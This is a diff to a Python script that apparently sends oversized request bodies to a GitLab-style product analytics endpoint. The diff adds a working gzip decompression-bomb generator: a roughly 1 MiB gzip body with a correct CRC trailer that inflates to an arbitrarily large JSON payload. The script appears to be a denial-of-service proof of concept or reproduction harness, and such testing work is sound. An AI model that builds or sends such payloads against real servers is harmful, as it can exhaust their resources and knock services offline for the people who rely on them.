@@ -12,9 +12,11 @@ import contextlib
 import json
 import secrets
 import socket
+import struct
 import sys
 import threading
 import time
+import zlib
 from collections import Counter
 
 PATH = b"/api/v4/projects/1/product_analytics/request/load"
@@ -27,6 +29,24 @@ def body(kind: str) -> bytes:
         parts = [unit] * (MIB // (len(unit) + 1) - 2)
         return b'{"query": {"x": [' + b",".join(parts) + b"]}}"
     return b'{"query": {"x": "' + b"y" * (MIB - 40) + b'"}}'
+
+
+def gzip_bomb(inflated_mib: int) -> bytes:
+    """A valid gzip body of about 1 MiB that inflates to a JSON load body of ``inflated_mib`` MiB (zeros in a string).
+
+    Built in a fraction of a second: the 1 MiB block of zeros is compressed once after a full flush (so its
+    compressed bytes do not depend on what came before) and repeated; the trailer's CRC is the whole body's."""
+    prefix, suffix, chunk = b'{"query": {"x": "', b'"}}', b"0" * MIB
+    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
+    head = deflate.compress(prefix) + deflate.flush(zlib.Z_FULL_FLUSH)
+    block = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
+    tail = deflate.compress(suffix) + deflate.flush()
+    crc = zlib.crc32(prefix)
+    for _ in range(inflated_mib):
+        crc = zlib.crc32(chunk, crc)
+    size = len(prefix) + inflated_mib * MIB + len(suffix)
+    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
+    return header + head + block * inflated_mib + tail + struct.pack("<II", zlib.crc32(suffix, crc), size % 2**32)
 
 
 def one(port: int, payload: bytes) -> int:
